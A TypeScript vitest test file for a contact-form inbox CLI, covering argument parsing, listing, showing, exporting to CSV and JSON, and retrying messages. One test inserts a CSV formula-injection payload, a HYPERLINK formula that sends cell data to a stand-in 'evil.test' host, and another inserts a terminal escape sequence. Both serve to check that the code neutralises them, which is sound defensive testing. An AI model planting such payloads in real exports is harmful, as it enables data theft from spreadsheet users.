import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { EXIT } from '../../../src/lib/cli.ts';
import { type InboxCommand, parseInboxArgs, runInboxCommand } from '../../../src/lib/contact/inbox.ts';
import type { Outbox } from '../../../src/lib/contact/outbox.ts';
import { createLogger } from '../../../src/lib/log.ts';
import { openStore, type Store } from '../../../src/lib/database/database.ts';
import { TEST_DATABASE } from '../../support/stores.ts';

describe('reading the arguments of npm run inbox', () => {
  test.each([
    [['list'], { name: 'list' }],
    [['show', '12'], { name: 'show', id: 12 }],
    [['retry', '3'], { name: 'retry', id: 3 }],
    [['export', '--format', 'csv'], { name: 'export', format: 'csv', bom: false }],
    [['export', '--format=json'], { name: 'export', format: 'json', bom: false }],
    [['help'], { name: 'help' }],
    [['--help'], { name: 'help' }],
  ])('%j is %j', (args, command) => {
    expect(parseInboxArgs(args)).toEqual({ ok: true, command });
  });

  test.each([
    [[], 'No command given.'],
    [['lsit'], 'Unknown command: lsit'],
    [['show'], 'show needs the id of a message, a whole number such as 12.'],
    [['show', 'abc'], 'show needs the id of a message, a whole number such as 12.'],
    [['show', '0'], 'show needs the id of a message, a whole number such as 12.'],
    [['retry', '-1'], 'retry needs the id of a message, a whole number such as 12.'],
    [['export'], 'export needs --format csv or --format json.'],
    [['export', '--format', 'xml'], 'export needs --format csv or --format json.'],
    [['list', 'extra'], 'Unexpected argument: extra'],
    [['show', '1', '2'], 'Unexpected argument: 2'],
  ])('%j is a usage error: %s', (args, problem) => {
    expect(parseInboxArgs(args)).toEqual({ ok: false, problem });
  });
});

describe('the inbox commands', () => {
  let dir: string;
  let db: Store;
  let outbox: Outbox;
  beforeEach(() => {
    dir = mkdtempSync(join(tmpdir(), 'site-forms-inbox-'));
    db = openStore({ ...TEST_DATABASE, url: undefined, dataDir: dir }, createLogger({ level: 'silent' }));
    outbox = db.outbox;
  });
  afterEach(async () => {
    await db.close();
    rmSync(dir, { recursive: true, force: true });
  });

  async function insert(row: {
    createdAt: string;
    name: string;
    email: string;
    message: string;
    status?: string;
    lastError?: string;
    sentAt?: string;
  }): Promise<number> {
    const inserted = await db.sql.get<{ id: number }>(
      'INSERT INTO submissions (created_at, name, email, message, status, last_error, sent_at, next_attempt_at) VALUES (?, ?, ?, ?, ?, ?, ?, ?) RETURNING id',
      [
        row.createdAt,
        row.name,
        row.email,
        row.message,
        row.status ?? 'pending',
        row.lastError ?? null,
        row.sentAt ?? null,
        row.status === 'pending' || !row.status ? row.createdAt : null,
      ],
    );
    return Number(inserted!.id);
  }

  async function run(command: InboxCommand) {
    let out = '';
    let err = '';
    const code = await runInboxCommand(command, { outbox, out: (t) => (out += t), err: (t) => (err += t), now: () => new Date('2026-06-01T12:00:00.000Z') });
    return { code, out, err };
  }

  test('list shows id, time, name, email and status, newest first, in aligned columns', async () => {
    await insert({
      createdAt: '2026-05-01T08:00:00.000Z',
      name: 'Ada Lovelace',
      email: 'ada@example.org',
      message: 'First message here.',
      status: 'sent',
      sentAt: '2026-05-01T08:00:01.000Z',
    });
    await insert({
      createdAt: '2026-05-02T09:30:00.000Z',
      name: 'Bob',
      email: 'bob@example.net',
      message: 'Second message here.',
      status: 'failed',
      lastError: 'EENVELOPE 550: no',
    });
    await expect(run({ name: 'list' })).resolves.toEqual({
      code: EXIT.ok,
      err: '',
      out: [
        'ID  RECEIVED (UTC)       NAME          EMAIL            STATUS',
        '2   2026-05-02 09:30:00  Bob           bob@example.net  failed',
        '1   2026-05-01 08:00:00  Ada Lovelace  ada@example.org  sent',
        '',
      ].join('\n'),
    });
  });

  test('list cuts long names and addresses and aligns wide characters by the columns they take', async () => {
    await insert({
      createdAt: '2026-05-01T08:00:00.000Z',
      name: 'Maximilian Alexander Freiherr von Humboldt',
      email: 'maximilian.alexander.humboldt@universitaet.example',
      message: 'A long name.',
    });
    await insert({ createdAt: '2026-05-02T09:30:00.000Z', name: '山田太郎', email: 'taro@example.jp', message: 'A wide name.' });
    await insert({ createdAt: '2026-05-03T10:45:00.000Z', name: 'Zoe\u0308 👩‍💻', email: 'zoe@example.org', message: 'Combining and emoji.' });
    expect((await run({ name: 'list' })).out.split('\n')).toEqual([
      'ID  RECEIVED (UTC)       NAME                      EMAIL                             STATUS',
      '3   2026-05-03 10:45:00  Zoe\u0308 👩‍💻                    zoe@example.org                   pending',
      '2   2026-05-02 09:30:00  山田太郎                  taro@example.jp                   pending',
      '1   2026-05-01 08:00:00  Maximilian Alexander Fr…  maximilian.alexander.humboldt@u…  pending',
      '',
    ]);
  });

  test('list says so on stderr when there is nothing yet', async () => {
    await expect(run({ name: 'list' })).resolves.toEqual({ code: EXIT.ok, out: '', err: 'No contact messages yet.\n' });
  });

  test('show prints the whole message and its delivery history', async () => {
    const id = await insert({ createdAt: '2026-05-01T08:00:00.000Z', name: 'Ada Lovelace', email: 'ada@example.org', message: 'Line one,\nline two.' });
    await outbox.markRetry(id, new Date('2026-05-01T08:00:01.000Z'), new Date('2026-05-01T08:00:31.000Z'), 'ESOCKET: connect ECONNREFUSED');
    await outbox.markSent(id, new Date('2026-05-01T08:00:31.500Z'));
    await expect(run({ name: 'show', id })).resolves.toEqual({
      code: EXIT.ok,
      err: '',
      out: [
        `Message #${id}`,
        'Received: 2026-05-01T08:00:00.000Z',
        'From:     Ada Lovelace <ada@example.org>',
        'Status:   sent at 2026-05-01T08:00:31.500Z',
        '',
        'Line one,',
        'line two.',
        '',
        'Delivery history:',
        '  2026-05-01T08:00:01.000Z  retrying  ESOCKET: connect ECONNREFUSED',
        '  2026-05-01T08:00:31.500Z  sent',
        '',
      ].join('\n'),
    });
  });

  test('show turns terminal escape sequences in a message into visible replacement characters', async () => {
    const id = await insert({ createdAt: '2026-05-01T08:00:00.000Z', name: 'Eve', email: 'eve@example.org', message: 'Hi \u001b[2Jthere, friend.' });
    const { out } = await run({ name: 'show', id });
    expect(out).not.toContain('\u001b');
    expect(out).toContain('Hi \uFFFD[2Jthere, friend.');
  });

  test('show of an id that does not exist exits 1 and says so on stderr', async () => {
    await expect(run({ name: 'show', id: 99 })).resolves.toEqual({ code: EXIT.notFound, out: '', err: 'No contact message #99. See npm run inbox -- list.\n' });
  });

  test('export --format csv quotes commas, quotes and line breaks as RFC 4180 asks', async () => {
    await insert({ createdAt: '2026-05-01T08:00:00.000Z', name: 'Lovelace, Ada', email: 'ada@example.org', message: 'She said "hello",\r\nthen left.' });
    expect((await run({ name: 'export', format: 'csv', bom: false })).out).toBe(
      'id,createdAt,name,email,message,status,attempts,nextAttemptAt,lastError,sentAt,spamReasons\r\n' +
        '1,2026-05-01 08:00:00,"Lovelace, Ada",ada@example.org,"She said ""hello"",\r\nthen left.",pending,0,2026-05-01 08:00:00,,,\r\n',
    );
  });

  test('export --format csv writes a name or message a spreadsheet would run as a formula as text (OWASP)', async () => {
    await insert({
      createdAt: '2026-05-01T08:00:00.000Z',
      name: '=HYPERLINK("http://evil.test/?x="&C2,"Click")',
      email: 'eve@example.org',
      message: '@SUM(1,2) then more',
    });
    expect((await run({ name: 'export', format: 'csv', bom: false })).out).toBe(
      'id,createdAt,name,email,message,status,attempts,nextAttemptAt,lastError,sentAt,spamReasons\r\n' +
        `1,2026-05-01 08:00:00,"'=HYPERLINK(""http://evil.test/?x=""&C2,""Click"")",eve@example.org,"'@SUM(1,2) then more",pending,0,2026-05-01 08:00:00,,,\r\n`,
    );
  });

  test('export --format json prints one JSON array with every field', async () => {
    await insert({ createdAt: '2026-05-01T08:00:00.000Z', name: 'Ada', email: 'ada@example.org', message: 'Hello there, friend.' });
    const { out, err, code } = await run({ name: 'export', format: 'json', bom: false });
    expect({ code, err }).toEqual({ code: EXIT.ok, err: '' });
    expect(JSON.parse(out)).toEqual([
      {
        id: 1,
        createdAt: '2026-05-01T08:00:00.000Z',
        name: 'Ada',
        email: 'ada@example.org',
        message: 'Hello there, friend.',
        status: 'pending',
        attempts: 0,
        nextAttemptAt: '2026-05-01T08:00:00.000Z',
        lastError: null,
        sentAt: null,
        spamReasons: [],
      },
    ]);
  });

  test('export of an empty inbox is an empty array and a header row', async () => {
    expect(JSON.parse((await run({ name: 'export', format: 'json', bom: false })).out)).toEqual([]);
    expect((await run({ name: 'export', format: 'csv', bom: false })).out).toBe(
      'id,createdAt,name,email,message,status,attempts,nextAttemptAt,lastError,sentAt,spamReasons\r\n',
    );
  });

  test('retry puts a failed message back in the queue, due at once, with the requeue in its history', async () => {
    const id = await insert({ createdAt: '2026-05-01T08:00:00.000Z', name: 'Ada', email: 'ada@example.org', message: 'Hello there, friend.' });
    await outbox.markFailed(id, new Date('2026-05-01T08:00:01.000Z'), 'EENVELOPE 550: no such user');
    await expect(run({ name: 'retry', id })).resolves.toMatchObject({ code: EXIT.ok, out: expect.stringContaining(`#${id} is pending again`) });
    await expect(outbox.find(id)).resolves.toMatchObject({ status: 'pending', attempts: 0, nextAttemptAt: '2026-06-01T12:00:00.000Z' });
    expect((await outbox.claim(new Date('2026-06-01T12:00:00.000Z'), new Date('2026-06-01T12:02:00.000Z')))?.id).toBe(id);
    expect((await outbox.history(id)).map((e) => e.outcome)).toEqual(['failed', 'requeued']);
  });

  test('retry of a pending message changes nothing; of a sent one, exits 1; of a missing one, exits 1', async () => {
    const pending = await insert({ createdAt: '2026-05-01T08:00:00.000Z', name: 'Ada', email: 'ada@example.org', message: 'Hello there, friend.' });
    const sent = await insert({
      createdAt: '2026-05-01T08:00:00.000Z',
      name: 'Bob',
      email: 'bob@example.org',
      message: 'Hello there, friend.',
      status: 'sent',
      sentAt: '2026-05-01T08:00:01.000Z',
    });
    await expect(run({ name: 'retry', id: pending })).resolves.toMatchObject({ code: EXIT.ok, out: expect.stringContaining('already pending') });
    await expect(run({ name: 'retry', id: sent })).resolves.toMatchObject({
      code: EXIT.notFound,
      err: expect.stringContaining('was delivered at 2026-05-01T08:00:01.000Z'),
    });
    await expect(run({ name: 'retry', id: 99 })).resolves.toMatchObject({ code: EXIT.notFound, err: expect.stringContaining('No contact message #99') });
    await expect(outbox.history(pending)).resolves.toEqual([]);
    expect((await outbox.find(sent))?.status).toBe('sent');
  });
});
